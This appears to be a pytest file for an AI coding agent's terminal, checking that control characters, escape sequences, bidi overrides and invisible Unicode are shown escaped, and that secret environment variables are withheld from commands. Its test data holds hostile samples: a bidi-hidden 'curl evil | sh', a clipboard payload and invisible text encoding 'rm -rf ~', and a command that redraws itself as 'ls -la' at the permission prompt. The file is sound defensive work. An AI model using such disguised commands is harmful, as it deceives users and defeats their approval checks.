"""What the agent shows and what its commands see (issue 17, agent items).

- Terminal injection: control characters in files, command output, the model's text and
  tool calls are shown as ``\\xNN`` escapes, never raw; a permission question whose
  command hides text says so. Checked on the UI directly and end to end under a pty with
  the tiny checkpoint and scripted decoding.
- Shell output: ``clean_terminal_output`` removes every escape sequence kind (7- and
  8-bit) and escapes what is left (the terminal rendering itself: test_agent_runtime.py).
- Child environment: names that look secret are withheld from commands unless passed.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
from pathlib import Path

import pexpect
import pytest
from rich.console import Console
from rich.table import Table

from ds4mlx.agent.child_env import NONINTERACTIVE, EnvPolicy, child_env, is_secret_name
from ds4mlx.agent.loop import Agent
from ds4mlx.agent.tools import ToolOutcome
from ds4mlx.agent.tools.shell import clean_terminal_output
from ds4mlx.agent.ui import CONTROL_WARNING, RichUI, SafeConsole
from ds4mlx.dsml import TextDelta, ThinkingDelta, ToolCall, ToolCallArgsDelta, ToolCallStart
from ds4mlx.engine import Engine
from ds4mlx.sanitize import CONTROL_RE, escape_controls, has_controls
from tests.agent_script import agent_args, agent_env, invoke, turn

TIMEOUT = 90
ESC = "\x1b"
# rich's own styling (SGR) is allowed on the terminal; nothing else may be raw.
_SGR = re.compile(r"\x1b\[[0-9;]*m")

# A file that drives the terminal when printed raw: window title (OSC 0), clipboard
# (OSC 52, "rm -rf ~" in base64), full reset (ESC c), clear screen (CSI 2J), and the
# 8-bit C1 spellings of CSI and OSC.
EVIL = (
    "title \x1b]0;PWNED-TITLE\x07\n"
    "clip \x1b]52;c;cm0gLXJmIH4=\x07\n"
    "reset \x1bc clear \x1b[2J\n"
    "c1 \x9b2J and \x9d0;C1-TITLE\x9c\n"
)
RAW = ["\x1b]0;", "\x1b]52;", "\x1bc", "\x1b[2J", "\x9b", "\x9d", "\x9c", "\x07"]
ESCAPED = [
    r"\x1b]0;PWNED-TITLE\x07",
    r"\x1b]52;c;cm0gLXJmIH4=\x07",
    r"\x1bc",
    r"\x1b[2J",
    r"\x9b2J",
    r"\x9d0;C1-TITLE\x9c",
]
# The probe's spoofing command: erase the line, move up, redraw a harmless "ls".
SPOOF = "touch MARKER #\x1b[2K\x1b[1G\x1b[1A\x1b[2K│ foreground: ls -la"


# ---------------------------------------------------------------- the sanitizer


def test_escape_controls_covers_c0_del_c1_and_keeps_newline_tab() -> None:
    controls = [chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
    for ch in controls:
        if ch in "\n\t":
            assert escape_controls(ch) == ch
        else:
            assert escape_controls(ch) == f"\\x{ord(ch):02x}"
    text = "a\x1b[31mb\x9bc\x7f\td\n é ✓ │ ␛"
    out = escape_controls(text)
    assert out == "a\\x1b[31mb\\x9bc\\x7f\td\n é ✓ │ ␛"
    assert escape_controls(out) == out and not has_controls(out)  # idempotent


# Trojan Source (CVE-2021-42574): bidi embeddings, overrides and isolates make a
# bidi-aware terminal (macOS Terminal, iTerm2, Konsole) draw text in another order than
# it runs: the command below runs "curl evil | sh" behind what reads as a comment.
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
BIDI_SPOOF = "ls -la #\u202e\u2066 hs | live lruc\u2069\u2066 && curl evil | sh"


def test_escape_controls_covers_bidi_overrides_and_keeps_rtl_text() -> None:
    for ch in BIDI:
        assert escape_controls(ch) == f"\\u{ord(ch):04x}" and has_controls(ch)
    out = escape_controls(BIDI_SPOOF)
    assert out == r"ls -la #\u202e\u2066 hs | live lruc\u2069\u2066 && curl evil | sh"
    assert escape_controls(out) == out  # idempotent
    rtl = "שלום \u200f مرحبا"  # right-to-left letters and a plain RLM mark are text
    assert escape_controls(rtl) == rtl


def test_escape_controls_shows_unicode_tag_characters() -> None:
    """Tag characters (U+E0000–U+E007F) are invisible in a terminal yet spell ASCII: a
    file could carry instructions the user never sees ("ASCII smuggling"). They were
    shown raw; each is now its escape, and an emoji stays."""
    hidden = "".join(chr(0xE0000 + ord(c)) for c in "rm -rf ~")
    out = escape_controls(f"fine{hidden}.")
    assert out == "fine" + "".join(f"\\U{0xE0000 + ord(c):08x}" for c in "rm -rf ~") + "."
    assert has_controls(hidden) and escape_controls(out) == out
    assert escape_controls("ok 👍🏽") == "ok 👍🏽"


def test_escape_controls_shows_supplementary_variation_selectors() -> None:
    """The 240 supplementary variation selectors (U+E0100–U+E01EF) are invisible too and
    carry a byte each after any character ("emoji smuggling": a whole instruction hidden
    behind one emoji), like tag characters: each is its escape. The 16 basic selectors
    (U+FE00–U+FE0F: an emoji's text or colour form) stay."""
    hidden = "".join(chr(0xE0100 + b) for b in b"curl x|sh")
    out = escape_controls(f"😀{hidden}")
    assert out == "😀" + "".join(f"\\U{0xE0100 + b:08x}" for b in b"curl x|sh")
    assert has_controls(hidden) and escape_controls(out) == out
    assert escape_controls("❤️ ok") == "❤️ ok"  # U+2764 U+FE0F


def _ui(width: int = 100) -> tuple[RichUI, io.StringIO]:
    buf = io.StringIO()
    console = SafeConsole(file=buf, force_terminal=True, color_system="standard", width=width)
    return RichUI(console), buf


def _assert_clean(out: str) -> str:
    """No control character in ``out`` once rich's SGR codes are removed; returns that."""
    plain = _SGR.sub("", out)
    assert not CONTROL_RE.search(plain), repr(plain)
    return plain


def test_ui_escapes_every_kind_of_output() -> None:
    ui, buf = _ui()
    ui.event(ThinkingDelta(f"think {EVIL}"))
    ui.event(TextDelta(f"text {EVIL}"))
    ui.event(ToolCallStart(0, "t1", "read"))
    ui.event(ToolCallArgsDelta(0, f'{{"path": "{EVIL}"}}'))
    call = ToolCall("t1", "read", {"path": "evil.txt"})
    ui.tool_result(call, ToolOutcome(True, EVIL))
    ui.notice(f"notice {EVIL}", "warn")
    ui.show_history([])
    ui.line(EVIL)
    plain = _assert_clean(buf.getvalue())
    for esc in ESCAPED:
        assert esc in plain


def test_permission_panel_shows_the_real_command_escaped_and_flagged() -> None:
    ui, buf = _ui(width=160)
    ui.console.input = lambda *a, **k: "d"
    assert ui.ask("bash", f"run (foreground) in /ws:\n{SPOOF}") == "deny"
    plain = _assert_clean(buf.getvalue())
    assert escape_controls(SPOOF) in plain
    assert CONTROL_WARNING in plain
    # A command whose bidi controls would redraw it in another order is flagged too.
    ui, buf = _ui(width=160)
    ui.console.input = lambda *a, **k: "d"
    assert ui.ask("bash", f"run (foreground) in /ws:\n{BIDI_SPOOF}") == "deny"
    plain = _assert_clean(buf.getvalue())
    assert escape_controls(BIDI_SPOOF) in plain and CONTROL_WARNING in plain
    # A clean command is not flagged.
    ui, buf = _ui()
    ui.console.input = lambda *a, **k: "d"
    ui.ask("bash", "run (foreground) in /ws:\nls -la")
    assert CONTROL_WARNING not in buf.getvalue()


def test_a_padded_command_keeps_its_first_lines_beside_the_question() -> None:
    """Newlines cannot push a command's dangerous start off the screen above the
    question: blank runs collapse to one marker line, and a tall request is named again
    in the question, with its line count."""
    ui, buf = _ui()
    asked: list[str] = []
    ui.console.input = lambda prompt, **k: asked.append(str(prompt)) or "d"
    command = "rm -rf /important" + "\n" * 60 + "echo safe"
    assert ui.ask("bash", f"run (foreground) in /ws:\n{command}") == "deny"
    lines = _assert_clean(buf.getvalue()).splitlines()
    assert len(lines) < 10, lines
    assert any("rm -rf /important" in ln for ln in lines)
    assert any("⋯ 59 blank lines ⋯" in ln for ln in lines) and asked == [
        "allow? [o]nce / [a]lways (bash, this session) / [d]eny › "
    ]
    # Tall without blanks: the question names the tool and how tall its request is.
    ui, buf = _ui()
    asked.clear()
    ui.console.input = lambda prompt, **k: asked.append(str(prompt)) or "d"
    ui.ask("bash", "run (foreground) in /ws:\n" + "\n".join(f"echo {i}" for i in range(40)))
    assert asked and asked[0].startswith("allow bash (the 41 lines above"), asked


def test_a_line_break_in_a_path_cannot_split_the_question(tmp_path) -> None:
    from ds4mlx.agent.tools.common import Workspace
    from ds4mlx.agent.tools.files import FileTools

    tools = FileTools(Workspace(tmp_path))
    proposal = tools.write({"path": "new\nline.txt", "content": "x"})
    assert proposal.summary.splitlines()[0] == "create new\\nline.txt (1 bytes, 1 lines)"
    # A listing shows it as one entry, to the model and the user alike.
    (tmp_path / "new\nline.txt").write_text("x")
    listing = tools.list_paths({"path": ".", "depth": 1}).body
    assert "new\\nline.txt" in listing.splitlines(), listing


def test_printed_strings_are_text_not_markup_and_keep_every_control_visible() -> None:
    """An error message quoting a file (an MCP server's name) prints as text: rich
    markup in it is no hyperlink or style, and BEL, which rich drops before rendering,
    shows as its escape."""
    buf = io.StringIO()
    console = SafeConsole(file=buf, force_terminal=True, color_system="standard", width=200)
    console.print("ds4mlx agent: evil\x1b]0;T\x07 [link=https://evil.example]x[/link] [reverse]y")
    out = buf.getvalue()
    plain = _assert_clean(out)
    assert "evil\\x1b]0;T\\x07 [link=https://evil.example]x[/link] [reverse]y" in plain, plain
    assert "\x1b]8;" not in out  # no OSC 8 hyperlink


def test_safe_console_escapes_text_that_bypasses_the_ui_helpers() -> None:
    buf = io.StringIO()
    console = SafeConsole(file=buf, force_terminal=True, width=80)
    table = Table()
    table.add_column("title")
    table.add_row(f"cell {EVIL}")
    console.print(table)
    console.print(f"plain {EVIL}", markup=False)
    console.rule("rule \x1b]0;RULE\x07")
    plain = _assert_clean(buf.getvalue())
    # (rich itself drops BEL, BS, VT, FF and CR from a str; ESC and C1 it keeps.)
    assert r"\x1b]0;RULE" in plain and r"\x9d0;C1-TITLE\x9c" in plain
    with pytest.raises(TypeError):
        RichUI(Console(file=io.StringIO()))


# ---------------------------------------------------------------- shell output (item 9)


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1bcafter reset", "after reset"),  # RIS, full reset
        ("\x1b(0lqqk\x1b(B", "lqqk"),  # DEC line drawing charset and back
        ("\x1b7saved\x1b8", "saved"),  # save / restore cursor
        ("\x9b31mred\x9b0m", "red"),  # 8-bit CSI
        ("\x9d0;title\x07t", "t"),  # 8-bit OSC ended by BEL
        ("\x9d52;c;cm0gLXJmIH4=\x9cclip", "clip"),  # 8-bit OSC ended by 8-bit ST
        ("\x1b]52;c;cm0=\x1b\\x", "x"),  # OSC 52 ended by ESC \
        ("\x1bP1$r0m\x1b\\dcs", "dcs"),  # DCS string
        ("\x1b[2J\x1b[Hhome", "home"),
        ("a\r\nb\rc\n\x1b]0;title\x07x", "a\nc\nx"),
        # A lone ESC stays visible; BEL rings nothing, BS steps back (as a terminal does).
        ("lone \x1b\nbell \x07 bs \x08\ttab", "lone \\x1b\nbell  bs\ttab"),
        ("ctl \x01\x7f\x85 end", "ctl \\x01\\x85 end"),  # drawn controls escaped
    ],
)
def test_clean_terminal_output_removes_sequences_and_escapes_the_rest(raw, shown) -> None:
    out = clean_terminal_output(raw)
    assert out == shown
    assert not has_controls(out)


# ---------------------------------------------------------------- child environment


def test_child_env_policy() -> None:
    environ = {
        "PATH": "/bin",
        "HOME": "/h",
        "AWS_SECRET_ACCESS_KEY": "s1",
        "GH_TOKEN": "t",
        "db_password": "p",
        "OPENAI_API_KEY": "k",
        "PAGER": "less",
    }
    assert all(is_secret_name(n) for n in ("AWS_SECRET_ACCESS_KEY", "gh_token", "db_password"))
    # Names the first markers missed, and a connection string whatever its name.
    more = {
        "DB_PASSWD": "p",
        "GOOGLE_APPLICATION_CREDENTIALS": "/k.json",
        "DATABASE_URL": "postgres://app:hunter2@db:5432/app",
        "REDIS_URL": "redis://default:s3cret@cache:6379",
        "DOCS_URL": "https://example.com/docs",  # no password: kept
        "PROXY": "http://proxy:3128",  # a port, no user info: kept
        "SESSION_COOKIE": "sess=abc",
        "MYAUTH": "Bearer eyJhbGciOiJIUzI1NiJ9",
        "UPSTREAM": "basic dXNlcjpwdw==",
        "GREETING": "Bearer of good news",  # words, not one credential: kept
        "MOTTO": "Bearer",  # the word alone: kept
    }
    kept = child_env(EnvPolicy(), {**environ, **more})
    assert kept == {"PATH": "/bin", "HOME": "/h", **NONINTERACTIVE, **{
        k: more[k] for k in ("DOCS_URL", "PROXY", "GREETING", "MOTTO")
    }}, kept  # fmt: skip
    assert EnvPolicy().withheld(more) == [
        "DATABASE_URL", "DB_PASSWD", "GOOGLE_APPLICATION_CREDENTIALS", "MYAUTH", "REDIS_URL",
        "SESSION_COOKIE", "UPSTREAM",
    ]  # fmt: skip
    env = child_env(EnvPolicy(), environ)
    assert env == {"PATH": "/bin", "HOME": "/h", **NONINTERACTIVE}
    env = child_env(EnvPolicy(passed=frozenset({"GH_TOKEN"})), environ, {"MCP_TOKEN": "m"})
    assert env["GH_TOKEN"] == "t" and env["MCP_TOKEN"] == "m" and "OPENAI_API_KEY" not in env
    assert child_env(EnvPolicy(inherit=True), environ)["AWS_SECRET_ACCESS_KEY"] == "s1"
    policy = EnvPolicy.from_config(
        passed=["OPENAI_API_KEY"], environ={"DS4MLX_AGENT_PASS_ENV": " GH_TOKEN, db_password "}
    )
    assert policy.passed == {"OPENAI_API_KEY", "GH_TOKEN", "db_password"}
    assert policy.withheld(environ) == ["AWS_SECRET_ACCESS_KEY"]


SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY"
ECHO = 'echo "aws=[$AWS_SECRET_ACCESS_KEY]"'


def test_agent_commands_do_not_see_secrets_in_the_model_context(
    tiny_f32_dir, workspace, monkeypatch
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    engine = Engine.load(tiny_f32_dir, ctx_size=4096)
    script = [turn("Echo.", "", invoke("bash", command=ECHO)), turn("Done.", "Done.")]
    for policy, seen in (
        (None, False),
        (EnvPolicy(passed=frozenset({"AWS_SECRET_ACCESS_KEY"})), True),
    ):
        agent = Agent(engine, workspace, yes=True, script=script, env_policy=policy)
        try:
            assert agent.send("echo the key").ok
            result = next(m.content for m in agent.messages if m.role == "tool")
            assert ("aws=[]" in result) is not seen and (SECRET in result) is seen
            assert (SECRET in agent.live_text()) is seen  # the model's context
        finally:
            agent.close()


# ---------------------------------------------------------------- end to end


def _env(**extra: str) -> dict[str, str]:
    return agent_env(140, **extra)  # wide enough for the spoofing command's panel line


_args = agent_args


def test_terminal_never_receives_raw_sequences(tiny_f32_dir, tmp_path) -> None:
    """A file with OSC 0/52, reset, clear and C1 sequences, read and echoed by the model,
    then the spoofing command: the pty gets only their escapes (and rich's SGR)."""
    (tmp_path / "ws").mkdir()
    (tmp_path / "ws" / "evil.txt").write_text(EVIL, encoding="utf-8")
    script = [
        turn(
            "Reading \x1b]0;THINK-TITLE\x07 it.", "Let me read it.", invoke("read", path="evil.txt")
        ),
        turn("Echo it.", f"The file says:\n{EVIL}END-OF-ECHO"),
        turn("Run it.", "", invoke("bash", command=SPOOF)),
        turn("Denied.", "Not run. DONE-TWO"),
    ]
    log_path = tmp_path / "terminal.log"
    child = pexpect.spawn(
        sys.executable,
        _args(tiny_f32_dir, tmp_path, script),
        env=_env(),
        encoding="utf-8",
        timeout=TIMEOUT,
        dimensions=(40, 140),
    )
    child.logfile_read = open(log_path, "w", encoding="utf-8")  # noqa: SIM115
    try:
        child.expect("› ")
        child.sendline("read evil.txt and echo it")
        child.expect("END-OF-ECHO")
        child.expect("› ")
        child.sendline("run the command")
        child.expect("allow bash")
        child.expect(r"\[o\]nce / \[a\]lways \(bash, this session\) / \[d\]eny")
        child.sendline("d")
        child.expect("DONE-TWO")
        child.expect("› ")
        child.sendline("/quit")
        child.expect(pexpect.EOF)
    finally:
        child.close()
        child.logfile_read.close()
    log = log_path.read_text(encoding="utf-8")
    for raw in RAW:
        assert raw not in log, f"raw {raw!r} reached the terminal"
    assert "#\x1b[2K\x1b[1G" not in log
    plain = _SGR.sub("", log)
    for esc in [*ESCAPED, r"\x1b]0;THINK-TITLE\x07"]:
        assert esc in plain, esc
    assert escape_controls(SPOOF) in plain and CONTROL_WARNING in plain
    assert not (tmp_path / "ws" / "MARKER").exists()


def _run_echo(tiny: Path, tmp: Path, *flags: str, **env: str) -> tuple[str, str]:
    """``agent -p --yes`` running :data:`ECHO`; returns (transcript, session JSON)."""
    script = [turn("Echo.", "", invoke("bash", command=ECHO)), turn("Done.", "Echoed.")]
    r = subprocess.run(
        [sys.executable, *_args(tiny, tmp, script, "-p", "echo the key", "--yes", *flags)],
        env=_env(AWS_SECRET_ACCESS_KEY=SECRET, **env),
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
    )
    assert r.returncode == 0, r.stderr
    sessions = list((tmp / "kv" / "agent-sessions").glob("*.json"))
    assert len(sessions) == 1
    return r.stderr, sessions[0].read_text()


@pytest.mark.parametrize(
    ("flags", "env", "passed"),
    [
        ((), {}, False),
        (("--inherit-env",), {}, True),
        (("--pass-env", "AWS_SECRET_ACCESS_KEY"), {}, True),
        ((), {"DS4MLX_AGENT_PASS_ENV": "OTHER,AWS_SECRET_ACCESS_KEY"}, True),
    ],
)
def test_agent_withholds_secret_env_unless_passed(tiny_f32_dir, tmp_path, flags, env, passed):
    transcript, session = _run_echo(tiny_f32_dir, tmp_path, *flags, **env)
    assert (SECRET in transcript) is passed
    assert (SECRET in session) is passed
    assert ("aws=[]" in transcript) is not passed
    # The banner names what commands do not get (names only, never values).
    assert ("commands run without" in transcript and "AWS_SECRET_ACCESS_KEY" in transcript) is (
        not passed
    )
